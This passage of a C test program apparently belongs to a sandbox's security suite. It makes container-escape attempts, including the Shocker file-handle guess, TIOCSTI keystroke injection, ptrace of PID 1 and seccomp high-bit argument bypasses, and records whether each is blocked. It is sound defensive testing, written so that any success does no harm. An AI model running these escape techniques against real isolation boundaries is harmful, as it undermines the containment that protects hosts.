/*
 * attack: escape and abuse attempts a hostile root occupant makes, one subcommand each.
 *
 *   gcc -static -O2 -o attack tests/security/attack.c
 *   attack <subcommand> [args...]
 *
 * Every subcommand prints one JSON object per attempt, one per line, on stdout:
 *   {"attack": "mount_tmpfs", "ret": -1, "errno": "EPERM", ...extra fields}
 * "ret" is the syscall's return value (>= 0: the attempt worked), "errno" the error name
 * ("" on success).  The pytest tier (tests/security) runs the binary inside a sandbox and
 * asserts the safe outcome; the same binary run on the host in a weak namespace sandbox is the
 * positive control showing that the test can fail.
 *
 * Rules for this file: only local effects.  Attempts that would damage the host if they
 * worked are written so that success is harmless (write back the value that is already there,
 * open for writing without writing, unload nothing, CAD_OFF instead of a restart).  Network
 * attempts go to 127.0.0.1 only.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif
#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif
#ifndef F_SEAL_SEAL
#define F_SEAL_SEAL 0x0001
#define F_SEAL_SHRINK 0x0002
#define F_SEAL_GROW 0x0004
#define F_SEAL_WRITE 0x0008
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#ifndef SYS_fsopen
#define SYS_fsopen 430
#define SYS_fsconfig 431
#define SYS_fsmount 432
#define SYS_fspick 433
#define SYS_open_tree 428
#define SYS_move_mount 429
#endif
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef MOVE_MOUNT_F_EMPTY_PATH
#define MOVE_MOUNT_F_EMPTY_PATH 0x00000004
#endif
#ifndef MOUNT_ATTR_RDONLY
#define MOUNT_ATTR_RDONLY 0x00000001
#endif
#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif
#ifndef TIOCSTI
#define TIOCSTI 0x5412
#endif

#define XFS_IOC_SWAPEXT 0xC0C0586DUL /* _IOWR('X', 109, struct xfs_swapext), 192 bytes */
#define XFS_IOC_EXCHANGE_RANGE \
  0x40285881UL /* _IOW('X', 129, struct xfs_exchange_range), 40 bytes */

/* ---- output ---------------------------------------------------------------------------- */

static const char *ename(int e) {
  if (e == 0) return "";
  const char *n = strerrorname_np(e);
  static char buf[32];
  if (n) return n;
  snprintf(buf, sizeof buf, "E%d", e);
  return buf;
}

static void json_escape(FILE *f, const char *s) {
  fputc('"', f);
  for (; s && *s; s++) {
    unsigned char c = (unsigned char)*s;
    if (c == '"' || c == '\\') {
      fputc('\\', f);
      fputc(c, f);
    } else if (c == '\n')
      fputs("\\n", f);
    else if (c < 0x20 || c >= 0x7f)
      fprintf(f, "\\u%04x", c);
    else
      fputc(c, f);
  }
  fputc('"', f);
}

/* emit("name", ret, err, "\"k\": 1, \"s\": %s", ...): extra is a printf format for more JSON
 * members (may be NULL).  Flushes, so output survives a kill right after. */
static void emit(const char *attack, long ret, int err, const char *extra, ...) {
  printf("{\"attack\": ");
  json_escape(stdout, attack);
  printf(", \"ret\": %ld, \"errno\": \"%s\"", ret, ret < 0 ? ename(err) : "");
  if (extra && *extra) {
    printf(", ");
    va_list ap;
    va_start(ap, extra);
    vprintf(extra, ap);
    va_end(ap);
  }
  printf("}\n");
  fflush(stdout);
}

/* a string member for emit's extra, escaped into a static rotating buffer */
static const char *js(const char *s) {
  static char bufs[8][1024];
  static int i;
  char *b = bufs[i++ % 8];
  FILE *f = fmemopen(b, sizeof bufs[0], "w");
  if (!f) return "null";
  json_escape(f, s ? s : "");
  fclose(f);
  b[sizeof bufs[0] - 1] = 0;
  return b;
}

#define TRY(name, expr)          \
  do {                           \
    errno = 0;                   \
    long r_ = (long)(expr);      \
    emit(name, r_, errno, NULL); \
  } while (0)

/* Run fn in a child (so process-wide side effects stay there); the child's own output is the
 * report.  Returns the child's wait status.  A child killed by a signal is reported here. */
static int in_child(const char *name, void (*fn)(void *), void *arg, int timeout_s) {
  fflush(stdout);
  pid_t p = fork();
  if (p < 0) {
    emit(name, -1, errno, "\"stage\": \"fork\"");
    return -1;
  }
  if (p == 0) {
    alarm(timeout_s);
    fn(arg);
    fflush(stdout);
    _exit(0);
  }
  int st = 0;
  while (waitpid(p, &st, 0) < 0 && errno == EINTR) {
  }
  if (WIFSIGNALED(st)) emit(name, -1, 0, "\"child_signal\": %d", WTERMSIG(st));
  return st;
}

static int is_mountpoint(const char *path) {
  FILE *f = fopen("/proc/self/mountinfo", "r");
  if (!f) return -1;
  char line[4096];
  int found = 0;
  while (fgets(line, sizeof line, f)) {
    char mp[2048];
    if (sscanf(line, "%*s %*s %*s %*s %2047s", mp) == 1 && !strcmp(mp, path)) found = 1;
  }
  fclose(f);
  return found;
}

/* ---- B.3 #21: the mount API ------------------------------------------------------------ */

static void a_mount(void) {
  mkdir("/tmp/atk-m", 0755);
  errno = 0;
  int r = mount("none", "/tmp/atk-m", "tmpfs", 0, "size=1m");
  emit("mount_tmpfs", r, errno, NULL);
  if (r == 0) umount2("/tmp/atk-m", MNT_DETACH);

  mkdir("/tmp/atk-p", 0755);
  errno = 0;
  r = mount("proc", "/tmp/atk-p", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
  emit("mount_proc", r, errno, NULL);
  if (r == 0) umount2("/tmp/atk-p", MNT_DETACH);

  errno = 0;
  r = mount("/etc", "/tmp/atk-m", NULL, MS_BIND, NULL);
  emit("mount_bind", r, errno, NULL);
  if (r == 0) umount2("/tmp/atk-m", MNT_DETACH);

  /* read-only mounts made writable again: sysfs, /proc/sys, /dev */
  static const char *ro[] = {"/sys", "/proc/sys", "/dev"};
  for (size_t i = 0; i < sizeof ro / sizeof *ro; i++) {
    errno = 0;
    r = mount(NULL, ro[i], NULL, MS_REMOUNT | MS_BIND, NULL);
    emit("mount_remount_rw", r, errno, "\"path\": %s, \"mountpoint\": %d", js(ro[i]),
         is_mountpoint(ro[i]));
  }

  /* umount the masks over /proc to unmask it */
  static const char *masks[] = {
      "/proc/kcore",       "/proc/keys",    "/proc/timer_list", "/proc/sysrq-trigger",
      "/proc/sys",         "/proc/acpi",    "/proc/scsi",       "/proc/latency_stats",
      "/proc/sched_debug", "/sys/firmware", "/proc/irq",        "/proc/bus",
      "/proc/fs"};
  for (size_t i = 0; i < sizeof masks / sizeof *masks; i++) {
    int mp = is_mountpoint(masks[i]);
    errno = 0;
    r = umount2(masks[i], MNT_DETACH);
    emit("umount2", r, errno, "\"path\": %s, \"mountpoint\": %d", js(masks[i]), mp);
  }
}

static void a_fsopen(void) {
  errno = 0;
  long fd = syscall(SYS_fsopen, "tmpfs", 0);
  emit("fsopen", fd, errno, NULL);
  if (fd >= 0) close((int)fd);
  errno = 0;
  fd = syscall(SYS_fsopen, "proc", 0);
  emit("fsopen_proc", fd, errno, NULL);
  if (fd >= 0) close((int)fd);
  errno = 0;
  fd = syscall(SYS_fspick, AT_FDCWD, "/", 0);
  emit("fspick", fd, errno, NULL);
  if (fd >= 0) close((int)fd);
  /* fsconfig/fsmount on a bogus fd: EPERM from the filter, EBADF/EINVAL from the kernel */
  errno = 0;
  long r = syscall(SYS_fsconfig, 1000, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0);
  emit("fsconfig", r, errno, NULL);
  errno = 0;
  r = syscall(SYS_fsmount, 1000, 0, 0);
  emit("fsmount", r, errno, NULL);
}

static void a_open_tree(void) {
  errno = 0;
  long fd = syscall(SYS_open_tree, AT_FDCWD, "/etc", OPEN_TREE_CLONE | AT_RECURSIVE);
  emit("open_tree", fd, errno, NULL);
  mkdir("/tmp/atk-mm", 0755);
  errno = 0;
  long r = syscall(SYS_move_mount, fd >= 0 ? (int)fd : 1000, "", AT_FDCWD, "/tmp/atk-mm",
                   MOVE_MOUNT_F_EMPTY_PATH);
  emit("move_mount", r, errno, "\"had_tree_fd\": %s", fd >= 0 ? "true" : "false");
  if (r == 0) umount2("/tmp/atk-mm", MNT_DETACH);
  if (fd >= 0) close((int)fd);
  /* open_tree_attr (Linux 6.15, syscall 467): the same clone, through a newer door */
  errno = 0;
  fd = syscall(467, AT_FDCWD, "/etc", OPEN_TREE_CLONE | AT_RECURSIVE, NULL, 0UL);
  emit("open_tree_attr", fd, errno, NULL);
  if (fd >= 0) close((int)fd);
  struct {
    uint64_t attr_set, attr_clr, propagation, userns_fd;
  } attr = {0, MOUNT_ATTR_RDONLY, 0, 0};
  errno = 0;
  r = syscall(SYS_mount_setattr, AT_FDCWD, "/dev", 0, &attr, sizeof attr);
  emit("mount_setattr", r, errno, "\"path\": \"/dev\"");
}

static void a_pivot_root(void) {
  /* Non-destructive: /tmp is not a mount point, so without a filter the kernel answers
   * EINVAL; the filter answers EPERM before looking at the arguments. */
  errno = 0;
  long r = syscall(SYS_pivot_root, "/tmp", "/tmp");
  emit("pivot_root", r, errno, "\"tmp_is_mountpoint\": %d", is_mountpoint("/tmp"));
}

/* ---- B.3 #20: namespaces ---------------------------------------------------------------- */

static void do_unshare(void *arg) {
  long flags = (long)arg;
  errno = 0;
  int r = unshare((int)flags);
  char name[64];
  snprintf(name, sizeof name, "unshare_0x%lx", flags);
  emit(name, r, errno, "\"flags\": %ld", flags);
}

static void a_unshare(void) {
  in_child("unshare_user", do_unshare, (void *)(long)CLONE_NEWUSER, 5);
  in_child("unshare_user_mnt", do_unshare, (void *)(long)(CLONE_NEWUSER | CLONE_NEWNS), 5);
  in_child("unshare_user_net", do_unshare, (void *)(long)(CLONE_NEWUSER | CLONE_NEWNET), 5);
}

static void a_unshare_other(void) {
  /* Without CLONE_NEWUSER these need CAP_SYS_ADMIN in the sandbox's user namespace. */
  static const long flags[] = {CLONE_NEWNS,  CLONE_NEWNET,    CLONE_NEWUTS, CLONE_NEWIPC,
                               CLONE_NEWPID, CLONE_NEWCGROUP, CLONE_NEWTIME};
  for (size_t i = 0; i < sizeof flags / sizeof *flags; i++)
    in_child("unshare_ns", do_unshare, (void *)flags[i], 5);
}

static void a_clone_user(void) {
  static const long flags[] = {CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID};
  for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
    fflush(stdout);
    errno = 0;
    long r = syscall(SYS_clone, flags[i] | SIGCHLD, NULL, NULL, NULL, 0);
    if (r == 0) _exit(0);
    int e = errno;
    if (r > 0) waitpid((pid_t)r, NULL, 0);
    emit("clone_newuser", r, e, "\"flags\": %ld", flags[i]);
  }
}

struct clone_args_v0 {
  uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
};

static void a_clone3(void) {
  static const uint64_t flags[] = {0, CLONE_NEWUSER};
  for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
    struct clone_args_v0 ca;
    memset(&ca, 0, sizeof ca);
    ca.flags = flags[i];
    ca.exit_signal = SIGCHLD;
    fflush(stdout);
    errno = 0;
    long r = syscall(SYS_clone3, &ca, sizeof ca);
    if (r == 0) _exit(0);
    int e = errno;
    if (r > 0) waitpid((pid_t)r, NULL, 0);
    emit("clone3", r, e, "\"flags\": %lu", (unsigned long)flags[i]);
  }
}

static void a_setns(void) {
  static const char *targets[] = {"/proc/1/ns/mnt", "/proc/1/ns/net", "/proc/self/ns/net",
                                  "/proc/self/ns/mnt", "/proc/self/ns/uts"};
  for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
    errno = 0;
    int fd = open(targets[i], O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      emit("setns_open", fd, errno, "\"path\": %s", js(targets[i]));
      continue;
    }
    errno = 0;
    int r = setns(fd, 0);
    emit("setns", r, errno, "\"path\": %s", js(targets[i]));
    close(fd);
  }
}

/* ---- B.3 #22, #23: bpf, keyrings, userfaultfd, perf, io_uring -------------------------- */

static void a_bpf(void) {
  union bpf_attr a;
  memset(&a, 0, sizeof a);
  a.map_type = BPF_MAP_TYPE_ARRAY;
  a.key_size = 4;
  a.value_size = 4;
  a.max_entries = 1;
  errno = 0;
  long r = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
  emit("bpf_map_create", r, errno, NULL);
  if (r >= 0) close((int)r);
  struct bpf_insn prog[2] = {
      {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0},
      {.code = BPF_JMP | BPF_EXIT},
  };
  memset(&a, 0, sizeof a);
  a.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  a.insns = (uint64_t)(uintptr_t)prog;
  a.insn_cnt = 2;
  a.license = (uint64_t)(uintptr_t) "GPL";
  errno = 0;
  r = syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof a);
  emit("bpf_prog_load", r, errno, NULL);
  if (r >= 0) close((int)r);
}

static void a_keyctl(void) {
  errno = 0;
  long r = syscall(SYS_add_key, "user", "warren-attack", "x", 1, -2 /* KEY_SPEC_PROCESS_KEYRING */);
  emit("add_key", r, errno, NULL);
  errno = 0;
  r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4 /* KEY_SPEC_USER_KEYRING */, 0);
  emit("keyctl", r, errno, NULL);
  errno = 0;
  r = syscall(SYS_request_key, "user", "warren-attack-none", NULL, 0);
  emit("request_key", r, errno, NULL);
}

static void a_userfaultfd(void) {
  errno = 0;
  long r = syscall(SYS_userfaultfd, O_CLOEXEC);
  emit("userfaultfd", r, errno, NULL);
  if (r >= 0) close((int)r);
  errno = 0;
  r = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
  emit("userfaultfd_user_mode", r, errno, NULL);
  if (r >= 0) close((int)r);
}

static void a_perf(void) {
  struct perf_event_attr pa;
  memset(&pa, 0, sizeof pa);
  pa.type = PERF_TYPE_SOFTWARE;
  pa.size = sizeof pa;
  pa.config = PERF_COUNT_SW_TASK_CLOCK;
  pa.exclude_kernel = 1;
  pa.exclude_hv = 1;
  pa.disabled = 1;
  errno = 0;
  long r = syscall(SYS_perf_event_open, &pa, 0, -1, -1, 0);
  emit("perf_event_open", r, errno, NULL);
  if (r >= 0) close((int)r);
}

static void a_io_uring(void) {
  unsigned char params[120]; /* struct io_uring_params */
  memset(params, 0, sizeof params);
  errno = 0;
  long r = syscall(SYS_io_uring_setup, 4, params);
  emit("io_uring_setup", r, errno, NULL);
  if (r >= 0) close((int)r);
  errno = 0;
  r = syscall(SYS_io_uring_enter, 1000, 0, 0, 0, NULL, 0);
  emit("io_uring_enter", r, errno, NULL);
  errno = 0;
  r = syscall(SYS_io_uring_register, 1000, 0, NULL, 0);
  emit("io_uring_register", r, errno, NULL);
}

/* ---- B.2 #18: kexec, modules, swap, reboot, time ----------------------------------------- */

static void a_kexec(void) {
  /* kexec_load with no segments would *unload* a loaded image if it were allowed: harmless */
  errno = 0;
  long r = syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0UL);
  emit("kexec_load", r, errno, NULL);
  errno = 0;
  r = syscall(SYS_kexec_file_load, -1, -1, 0UL, "", 0x2UL /* KEXEC_FILE_UNLOAD */);
  emit("kexec_file_load", r, errno, NULL);
}

static void a_modules(void) {
  static const char img[64] = {0x7f, 'E', 'L', 'F'};
  errno = 0;
  long r = syscall(SYS_init_module, img, sizeof img, "");
  emit("init_module", r, errno, NULL);
  int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  errno = 0;
  r = syscall(SYS_finit_module, fd, "", 0);
  emit("finit_module", r, errno, NULL);
  if (fd >= 0) close(fd);
  errno = 0;
  r = syscall(SYS_delete_module, "warren_no_such_module", O_NONBLOCK);
  emit("delete_module", r, errno, NULL);
}

static void a_swapon(void) {
  int fd = open("/tmp/atk-swap", O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (fd >= 0) {
    static char page[4096];
    for (int i = 0; i < 16; i++)
      if (write(fd, page, sizeof page) < 0) break;
    close(fd);
  }
  errno = 0;
  long r = syscall(SYS_swapon, "/tmp/atk-swap", 0);
  emit("swapon", r, errno, NULL);
  if (r == 0) syscall(SYS_swapoff, "/tmp/atk-swap");
  errno = 0;
  r = syscall(SYS_swapoff, "/tmp/atk-swap");
  emit("swapoff", r, errno, NULL);
  unlink("/tmp/atk-swap");
}

static void a_reboot(void) {
  /* CAD_OFF: with CAP_SYS_BOOT in the sandbox's namespace the kernel answers EINVAL (only
   * restart/halt mean something in a PID namespace); the filter answers EPERM. */
  errno = 0;
  long r =
      syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_OFF, NULL);
  emit("reboot", r, errno, NULL);
}

static void a_time(void) {
  struct timespec ts;
  clock_gettime(CLOCK_REALTIME, &ts);
  errno = 0;
  long r = clock_settime(CLOCK_REALTIME, &ts); /* the time it already is: harmless if allowed */
  emit("clock_settime", r, errno, NULL);
  struct timeval tv;
  gettimeofday(&tv, NULL);
  errno = 0;
  r = settimeofday(&tv, NULL);
  emit("settimeofday", r, errno, NULL);
  struct timex tx;
  memset(&tx, 0, sizeof tx); /* modes 0: a read-only query */
  errno = 0;
  r = syscall(SYS_clock_adjtime, CLOCK_REALTIME, &tx);
  emit("clock_adjtime", r, errno, NULL);
  memset(&tx, 0, sizeof tx);
  errno = 0;
  r = syscall(SYS_adjtimex, &tx);
  emit("adjtimex", r, errno, NULL);
}

/* Global facilities with no namespaced meaning (policy list), and privileged scheduling. */
static void a_misc(void) {
  errno = 0;
  long r = syscall(SYS_acct, "/tmp/atk-acct");
  emit("acct", r, errno, NULL);
  if (r == 0) syscall(SYS_acct, NULL);
  errno = 0;
  r = syscall(SYS_syslog, 3 /* SYSLOG_ACTION_READ_ALL */, (char[256]){0}, 256);
  emit("syslog", r, errno, NULL);
  errno = 0;
  r = syscall(SYS_quotactl, 0x80000100 /* QCMD(Q_SYNC, USRQUOTA): sync all, harmless */, NULL, 0,
              NULL);
  emit("quotactl", r, errno, NULL);
  errno = 0;
  r = syscall(SYS_iopl, 3);
  emit("iopl", r, errno, NULL);
  errno = 0;
  r = syscall(SYS_ioperm, 0x80UL, 1UL, 1);
  emit("ioperm", r, errno, NULL);
  /* THREATS #19: become OOM-immune, real-time scheduling, negative nice */
  int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
  errno = 0;
  r = fd < 0 ? -1 : write(fd, "-1000", 5);
  emit("oom_score_adj_-1000", r, errno, NULL);
  if (fd >= 0) close(fd);
  struct sched_param sp = {.sched_priority = 1};
  errno = 0;
  r = sched_setscheduler(0, SCHED_FIFO, &sp);
  emit("sched_fifo", r, errno, NULL);
  errno = 0;
  r = setpriority(PRIO_PROCESS, 0, -20);
  emit("nice_-20", r, errno, NULL);
  struct rlimit rl;
  if (getrlimit(RLIMIT_NPROC, &rl) == 0 && rl.rlim_max != RLIM_INFINITY) {
    rl.rlim_max += 1;
    rl.rlim_cur = rl.rlim_max;
    errno = 0;
    r = setrlimit(RLIMIT_NPROC, &rl);
    emit("raise_hard_rlimit_nproc", r, errno, NULL);
  }
}

/* ---- B.3 #23: open_by_handle_at (Shocker) ---------------------------------------------- */

static void a_open_by_handle(void) {
  struct {
    unsigned int bytes;
    int type;
    unsigned char f[128];
  } h;
  memset(&h, 0, sizeof h);
  h.bytes = 128;
  int mount_id = 0;
  errno = 0;
  long r = syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/passwd", &h, &mount_id, 0);
  emit("name_to_handle_at", r, errno, NULL);
  int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (r == 0) {
    errno = 0;
    long fd = syscall(SYS_open_by_handle_at, root, &h, O_RDONLY);
    emit("open_by_handle_at", fd, errno, "\"handle\": \"own\"");
    if (fd >= 0) close((int)fd);
  }
  /* Shocker: guess the root inode of the filesystem under the mount (ext4/xfs root is 2) */
  memset(&h, 0, sizeof h);
  h.bytes = 8;
  h.type = 1; /* FILEID_INO32_GEN */
  uint32_t ino = 2, gen = 0;
  memcpy(h.f, &ino, 4);
  memcpy(h.f + 4, &gen, 4);
  errno = 0;
  long fd = syscall(SYS_open_by_handle_at, root, &h, O_RDONLY);
  emit("open_by_handle_at", fd, errno, "\"handle\": \"guessed_ino2\"");
  if (fd >= 0) close((int)fd);
  if (root >= 0) close(root);
}

/* ---- B.3 #24, B.5 #43: sockets ----------------------------------------------------------- */

static void sock(const char *name, int fam, int type, int proto) {
  errno = 0;
  int fd = socket(fam, type, proto);
  emit(name, fd, errno, "\"family\": %d, \"type\": %d, \"proto\": %d", fam, type, proto);
  if (fd >= 0) close(fd);
}

/* The same, with garbage in the upper 32 bits of the family: socket(2) takes an int, so the
 * kernel ignores them, while a seccomp rule comparing all 64 bits ("eq 40") does not match. */
static void sock_hi(const char *name, long fam, int type, int proto) {
  errno = 0;
  long fd = syscall(SYS_socket, fam | (1L << 32), (long)type, (long)proto);
  emit(name, fd, errno, "\"family\": %ld, \"type\": %d, \"proto\": %d, \"high_bits\": true", fam,
       type, proto);
  if (fd >= 0) close((int)fd);
}

static void a_sockets(void) {
  sock("socket_packet", AF_PACKET, SOCK_RAW, htons(0x0003 /* ETH_P_ALL */));
  sock("socket_packet", AF_PACKET, SOCK_DGRAM, htons(0x0003));
  sock("socket_packet", AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
  sock("socket_raw", AF_INET, SOCK_RAW, IPPROTO_ICMP);
  sock("socket_raw", AF_INET, SOCK_RAW, IPPROTO_RAW);
  sock("socket_raw", AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_TCP);
  sock("socket_raw", AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
  sock("socket_raw", AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  sock("socket_vsock", AF_VSOCK, SOCK_STREAM, 0);
  sock("socket_vsock", AF_VSOCK, SOCK_DGRAM, 0);
  sock("socket_vsock", AF_VSOCK, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
  sock_hi("socket_packet", AF_PACKET, SOCK_RAW, htons(0x0003));
  sock_hi("socket_raw", AF_INET, SOCK_RAW, IPPROTO_ICMP);
  sock_hi("socket_raw", AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
  sock_hi("socket_vsock", AF_VSOCK, SOCK_STREAM, 0);
  sock_hi("socket_vsock", AF_VSOCK, SOCK_SEQPACKET, 0);
}

/* ---- B.3 #26, #30: ioctls ---------------------------------------------------------------- */

static void a_ioctl_xfs(void) {
  int a = open("/tmp/atk-xfs-a", O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  int b = open("/tmp/atk-xfs-b", O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (a < 0 || b < 0) {
    emit("ioctl_xfs_setup", -1, errno, NULL);
    return;
  }
  if (write(a, "protected", 9) < 0 || write(b, "attacker!", 9) < 0) {
  }
  unsigned char sx[192]; /* struct xfs_swapext */
  memset(sx, 0, sizeof sx);
  int64_t v[5] = {0 /* version */, a, b, 0, 9};
  memcpy(sx, v, sizeof v);
  static const struct {
    const char *name;
    unsigned long cmd;
  } cmds[] = {
      {"XFS_IOC_SWAPEXT", XFS_IOC_SWAPEXT},
      {"XFS_IOC_SWAPEXT|1<<32", XFS_IOC_SWAPEXT | (1UL << 32)},
      {"XFS_IOC_SWAPEXT|0xffffffff<<32", XFS_IOC_SWAPEXT | 0xffffffff00000000UL},
      {"XFS_IOC_EXCHANGE_RANGE", XFS_IOC_EXCHANGE_RANGE},
      {"XFS_IOC_EXCHANGE_RANGE|0xdead<<32", XFS_IOC_EXCHANGE_RANGE | (0xdeadUL << 32)},
  };
  for (size_t i = 0; i < sizeof cmds / sizeof *cmds; i++) {
    unsigned char xr[40]; /* struct xfs_exchange_range: file1_fd, pad, offsets, length, flags */
    memset(xr, 0, sizeof xr);
    int32_t f1 = b;
    memcpy(xr, &f1, 4);
    uint64_t len = 9;
    memcpy(xr + 24, &len, 8);
    void *arg = (cmds[i].cmd & 0xffffffffUL) == XFS_IOC_SWAPEXT ? (void *)sx : (void *)xr;
    errno = 0;
    long r = syscall(SYS_ioctl, a, cmds[i].cmd, arg);
    emit("ioctl_xfs", r, errno, "\"cmd\": %s", js(cmds[i].name));
  }
  close(a);
  close(b);
  unlink("/tmp/atk-xfs-a");
  unlink("/tmp/atk-xfs-b");
}

static void do_tiocsti(void *unused) {
  (void)unused;
  /* A controlling terminal of our own, then keystroke injection into it. */
  errno = 0;
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  emit("open_dev_tty", tty, errno, NULL);
  if (tty >= 0) {
    errno = 0;
    long r = syscall(SYS_ioctl, tty, (unsigned long)TIOCSTI, "x");
    emit("tiocsti", r, errno, "\"target\": \"/dev/tty\"");
    close(tty);
  }
  setsid();
  int m = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (m < 0) {
    emit("tiocsti_setup", -1, errno, "\"stage\": \"open /dev/ptmx\"");
    return;
  }
  int unlock = 0, n = -1;
  if (ioctl(m, TIOCSPTLCK, &unlock) != 0 || ioctl(m, TIOCGPTN, &n) != 0) {
    emit("tiocsti_setup", -1, errno, "\"stage\": \"unlockpt\"");
    return;
  }
  char path[64];
  snprintf(path, sizeof path, "/dev/pts/%d", n);
  int s = open(path, O_RDWR | O_CLOEXEC); /* no O_NOCTTY: becomes our controlling tty */
  if (s < 0) {
    emit("tiocsti_setup", -1, errno, "\"stage\": \"open slave\"");
    return;
  }
  static const struct {
    const char *name;
    unsigned long cmd;
  } cmds[] = {{"TIOCSTI", TIOCSTI},
              {"TIOCSTI|1<<32", TIOCSTI | (1UL << 32)},
              {"TIOCSTI|0xffffffff<<32", TIOCSTI | 0xffffffff00000000UL}};
  for (size_t i = 0; i < sizeof cmds / sizeof *cmds; i++) {
    errno = 0;
    long r = syscall(SYS_ioctl, s, cmds[i].cmd, "x");
    emit("tiocsti", r, errno, "\"cmd\": %s, \"target\": \"own pty\"", js(cmds[i].name));
  }
}

static void a_tiocsti(void) { in_child("tiocsti", do_tiocsti, NULL, 10); }

/* ---- B.1 #1, B.4 #31: the agent (PID 1) --------------------------------------------------- */

static void do_seize(void *unused) {
  (void)unused;
  errno = 0;
  long r = ptrace(PTRACE_SEIZE, 1, 0, 0);
  emit("ptrace_seize_1", r, errno, NULL);
  /* exiting detaches a seized tracee without ever stopping it */
}

static void do_attach(void *unused) {
  (void)unused;
  errno = 0;
  long r = ptrace(PTRACE_ATTACH, 1, 0, 0);
  int e = errno;
  long peek = -1;
  int pe = 0;
  if (r == 0) {
    int st;
    alarm(5);
    waitpid(1, &st, __WALL);
    errno = 0;
    peek = ptrace(PTRACE_PEEKUSER, 1, 0, 0);
    pe = errno;
    ptrace(PTRACE_DETACH, 1, 0, 0);
  }
  emit("ptrace_attach_1", r, e, "\"peekuser_errno\": \"%s\"", r == 0 ? ename(pe) : "");
  (void)peek;
}

/* pid 1 with garbage in the upper 32 bits: ptrace(2) truncates the pid to pid_t */
static void do_seize_hi(void *unused) {
  (void)unused;
  errno = 0;
  long r = syscall(SYS_ptrace, (long)PTRACE_SEIZE, 1L | (1L << 32), 0L, 0L);
  emit("ptrace_seize_1", r, errno, "\"high_bits\": true");
}

static void a_ptrace(void) {
  in_child("ptrace_seize_1", do_seize, NULL, 10);
  in_child("ptrace_seize_1", do_seize_hi, NULL, 10);
  in_child("ptrace_attach_1", do_attach, NULL, 10);
}

static unsigned long first_readable_addr(pid_t pid) {
  char p[64];
  snprintf(p, sizeof p, "/proc/%d/maps", pid);
  FILE *f = fopen(p, "r");
  if (!f) return 0;
  char line[512];
  unsigned long lo = 0;
  while (fgets(line, sizeof line, f)) {
    unsigned long a, b;
    char perms[8];
    if (sscanf(line, "%lx-%lx %7s", &a, &b, perms) == 3 && perms[0] == 'r') {
      lo = a;
      break;
    }
  }
  fclose(f);
  return lo;
}

static void a_process_vm(void) {
  unsigned long addr = first_readable_addr(1);
  int from_maps = addr != 0;
  if (!addr) addr = 0x400000; /* a static non-PIE agent's text; EFAULT if wrong, still not EPERM */
  char buf[16];
  struct iovec l = {buf, sizeof buf}, rm = {(void *)addr, sizeof buf};
  errno = 0;
  long r = process_vm_readv(1, &l, 1, &rm, 1, 0);
  emit("process_vm_readv_1", r, errno, "\"addr_from_maps\": %s", from_maps ? "true" : "false");
  errno = 0;
  r = syscall(SYS_process_vm_readv, 1L | (1L << 32), &l, 1L, &rm, 1L, 0L);
  emit("process_vm_readv_1", r, errno, "\"high_bits\": true");
  /* remote address 0: even if permitted, nothing is written (EFAULT instead of EPERM) */
  struct iovec rz = {(void *)0, sizeof buf};
  errno = 0;
